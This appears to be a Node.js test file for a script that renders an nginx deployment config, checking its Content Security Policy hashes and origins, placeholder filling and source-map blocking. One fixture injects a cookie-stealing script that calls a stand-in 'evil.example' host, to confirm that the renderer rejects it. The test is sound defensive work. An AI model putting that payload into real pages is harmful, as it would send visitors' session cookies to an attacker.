// The nginx recipe (deploy/nginx) as rendered by scripts/lib/nginx.mjs: the CSP's script hashes
// (the template's only) and origins, every placeholder filled, `nginx -t` accepting it with and
// without the brotli module, and a real nginx serving a build from a private folder.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { appConfigFor } from './lib/apps.mjs';
import { brotliAvailable, nginxBinary, renderNginx, writeMainConfig } from './lib/nginx.mjs';

// mkdtemp makes the folder mode 700, as a private home folder is.
const base = mkdtempSync(path.join(tmpdir(), 'nginx-render-'));
const flag = 'document.documentElement.setAttribute("data-x","");';
const loader = 'document.title="x";';
const template = `<html><head><script>${flag}</script></head><body><div id=root></div><script>${loader}</script><script src=/main.js></script></body></html>`;
// The page a prerender writes: the template's scripts and a JSON data block.
const page = template.replace(
  '<div id=root></div>',
  '<div id=root><p>post</p></div><script type="application/json" id=state>{"a":1}</script>',
);
// Written out here, with Node's own hashing, not the renderer's.
const sha = (body) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
const templateHashes = [sha(flag), sha(loader)].sort();

function makeDist(pages) {
  const dist = mkdtempSync(path.join(base, 'dist-'));
  writeFileSync(path.join(dist, 'index.html'), template);
  for (const [file, html] of Object.entries(pages)) {
    mkdirSync(path.dirname(path.join(dist, file)), { recursive: true });
    writeFileSync(path.join(dist, file), html);
  }
  return dist;
}
const dist = makeDist({ 'posts/index.html': page, 'posts/first/index.html': page });

const ports = (first) => ({ host: first, marketing: first + 1, platform: first + 2, auth: first + 3 });
const devConfig = appConfigFor({ portOf: (a) => 9000 + a.devPort - 3000, apiBase: 'https://api.example.com' });

function render({ brotli = false, root = dist, appConfig = devConfig, listen = ports(9100) } = {}) {
  const out = mkdtempSync(path.join(base, 'conf-'));
  const apps = Object.fromEntries(
    Object.entries(listen).map(([name, port]) => [name, { listen: `127.0.0.1:${port}`, root }]),
  );
  const site = renderNginx(out, {
    hostOrigin: 'https://www.example.com/',
    appConfig,
    appConfigDir: base,
    brotli,
    apps,
  });
  return { out, site };
}

const code = (file) =>
  readFileSync(file, 'utf8')
    .split('\n')
    .filter((l) => !l.trimStart().startsWith('#'))
    .join('\n');
/** The rendered CSP's directives by name. */
function csp(out) {
  const policy = [...code(path.join(out, 'host-headers.conf')).matchAll(/set \$qa_csp "(?:\$qa_csp; )?([^"]*)";/g)]
    .map((m) => m[1])
    .join('; ');
  return Object.fromEntries(
    policy.split(/;\s*/).map((directive) => {
      const [name, ...sources] = directive.trim().split(/\s+/);
      return [name, sources];
    }),
  );
}

test("the CSP hashes exactly the host's index.html template's inline scripts (not the JSON data or src scripts)", () => {
  const hashes = csp(render().out)['script-src'].filter((s) => s.startsWith("'sha256-"));
  assert.deepEqual(hashes.sort(), templateHashes);
});

test('a prerendered page with an injected inline script stops the rendering, naming the file', () => {
  const injected = page.replace('<p>post</p>', '<p>post</p><script>fetch("//evil.example/"+document.cookie)</script>');
  const root = makeDist({ 'posts/index.html': page, 'posts/hacked/index.html': injected });
  assert.throws(() => render({ root }), /posts\/hacked\/index\.html: an inline <script> that is not one of/);
});

test('a script that only looks like JSON data (data-type, a JS type) counts as a script', () => {
  for (const tag of [
    '<script data-type="application/json">',
    '<script type="module">',
    '<SCRIPT type=text/javascript >',
  ]) {
    const root = makeDist({ 'other.html': page.replace('<p>post</p>', `${tag}alert(1)</script>`) });
    assert.throws(() => render({ root }), /other\.html: an inline <script>/, tag);
  }
});

test('rendering fills every placeholder outside comments and puts the origins in the CSP', () => {
  const { out } = render();
  for (const file of readdirSync(out)) assert.doesNotMatch(code(path.join(out, file)), /\{\{/, file);
  const policy = csp(out);
  const remotes = ['http://127.0.0.1:9001', 'http://127.0.0.1:9002', 'http://127.0.0.1:9003'];
  assert.deepEqual(policy['connect-src'], ["'self'", ...remotes, 'https://api.example.com']);
  assert.ok(!Object.values(policy).flat().includes("'unsafe-eval'"));
  assert.match(
    readFileSync(path.join(out, 'remote-headers.conf'), 'utf8'),
    /Allow-Origin "https:\/\/www\.example\.com"/,
  );
  assert.match(readFileSync(path.join(out, 'compression.conf'), 'utf8'), /^# brotli_static on;/m);
});

test('a signals collector on its own origin may be reported to; on the API origin it is listed once', () => {
  assert.equal(devConfig.signalsUrl, 'https://api.example.com/v1/logs');
  const collector = { ...devConfig, signalsUrl: 'https://otel.example.net/v1/logs' };
  assert.ok(csp(render({ appConfig: collector }).out)['connect-src'].includes('https://otel.example.net'));
  const { signalsUrl, ...none } = devConfig;
  assert.ok(signalsUrl);
  assert.deepEqual(csp(render({ appConfig: none }).out)['connect-src'], csp(render().out)['connect-src']);
});

test("with tagManagerUrl unset, the CSP allows Google's container and its analytics hosts", () => {
  const { tagManagerUrl, ...appConfig } = devConfig;
  assert.ok(tagManagerUrl);
  const policy = csp(render({ appConfig }).out);
  assert.ok(policy['script-src'].includes('https://www.googletagmanager.com'), policy['script-src'].join(' '));
  for (const directive of ['connect-src', 'img-src']) {
    for (const origin of [
      'https://*.google-analytics.com',
      'https://*.analytics.google.com',
      'https://*.googletagmanager.com',
    ])
      assert.ok(policy[directive].includes(origin), `${directive} ${origin}`);
  }
});

test('a tag manager on its own origin may load and report there; without a container id no tag origin is allowed', () => {
  const tags = { ...devConfig, tagManagerUrl: 'https://tags.example.net/gtm.js' };
  const policy = csp(render({ appConfig: tags }).out);
  for (const directive of ['script-src', 'connect-src', 'img-src'])
    assert.ok(policy[directive].includes('https://tags.example.net'), directive);
  const { tagManagerId, ...noContainer } = tags;
  assert.ok(tagManagerId);
  const closed = csp(render({ appConfig: noContainer }).out);
  assert.ok(
    !Object.values(closed)
      .flat()
      .some((s) => /tags\.example\.net|google/.test(s)),
  );
});

test('the preview origins may serve script and be fetched from, and nothing else is added', () => {
  const previews = { ...devConfig, previewOrigins: ['https://previews.example.org/', 'http://127.0.0.1:9092'] };
  const policy = csp(render({ appConfig: previews }).out);
  const base = csp(render().out);
  for (const directive of ['script-src', 'connect-src']) {
    const added = policy[directive].filter((origin) => !base[directive].includes(origin));
    assert.deepEqual(added, ['https://previews.example.org', 'http://127.0.0.1:9092'], directive);
  }
  for (const directive of ['img-src', 'media-src', 'default-src']) assert.deepEqual(policy[directive], base[directive]);
});

test("the CSP limits where forms post (form-action 'self')", () => {
  assert.deepEqual(csp(render().out)['form-action'], ["'self'"]);
});

test('every server block hides the nginx version and refuses source maps', () => {
  const { out, site } = render();
  const servers = code(site)
    .split(/^server \{/m)
    .slice(1);
  assert.equal(servers.length, 4);
  for (const server of servers) assert.match(server, /^\s*server_tokens off;/m);
  for (const file of [site, path.join(out, 'remote-locations.conf')])
    assert.match(code(file), /location ~ "\\\.map\$" \{\s*deny all;/, file);
});

test('started as root, the workers run as root (nobody cannot read a private folder); otherwise no user line', () => {
  const out = mkdtempSync(path.join(base, 'main-'));
  assert.match(readFileSync(writeMainConfig(out, 'site.conf', false, { uid: 0 }), 'utf8'), /^user root;$/m);
  assert.doesNotMatch(readFileSync(writeMainConfig(out, 'site.conf', false, { uid: 1000 }), 'utf8'), /^user /m);
});

const nginxTest = (brotli) => {
  const { out, site } = render({ brotli });
  const main = writeMainConfig(out, site, brotli);
  return spawnSync(nginxBinary, ['-t', '-p', out, '-c', main, '-e', 'stderr'], { encoding: 'utf8' });
};

test('nginx accepts the rendered config without the brotli module', () => {
  assert.ok(existsSync(nginxBinary), `nginx is missing at ${nginxBinary}: run node scripts/setup.mjs --browser`);
  const result = nginxTest(false);
  assert.equal(result.status, 0, result.stderr);
});

test('brotli_static is on exactly where the module is installed (nginx would refuse the directive otherwise)', () => {
  const result = nginxTest(true);
  if (brotliAvailable()) assert.equal(result.status, 0, result.stderr);
  else assert.notEqual(result.status, 0);
});

test('nginx serves a build from a private (mode 700) folder, without its version or the source maps', async () => {
  assert.equal(statSync(base).mode & 0o777, 0o700);
  writeFileSync(path.join(dist, 'main.0123abcd.js'), 'x');
  writeFileSync(path.join(dist, 'main.0123abcd.js.map'), '{}');
  const listen = ports(9150);
  const { out, site } = render({ listen });
  const main = writeMainConfig(out, site, false);
  const child = spawn(nginxBinary, ['-p', out, '-c', main, '-e', 'stderr'], { stdio: ['ignore', 'ignore', 'pipe'] });
  let errors = '';
  child.stderr.on('data', (chunk) => (errors += chunk));
  const get = (file, port = listen.host) => fetch(`http://127.0.0.1:${port}/${file}`);
  try {
    let index;
    for (let tries = 0; !index && tries < 50; tries += 1)
      index = await get('').catch(() => new Promise((resolve) => setTimeout(() => resolve(undefined), 100)));
    assert.ok(index, errors);
    assert.equal(index.status, 200, errors);
    assert.equal(index.headers.get('server'), 'nginx');
    assert.equal((await get('main.0123abcd.js')).status, 200, errors);
    assert.equal((await get('main.0123abcd.js.map')).status, 403);
    assert.equal((await get('main.0123abcd.js.map', listen.platform)).status, 403);
  } finally {
    child.kill('SIGQUIT');
    await new Promise((resolve) => child.once('exit', resolve));
  }
});
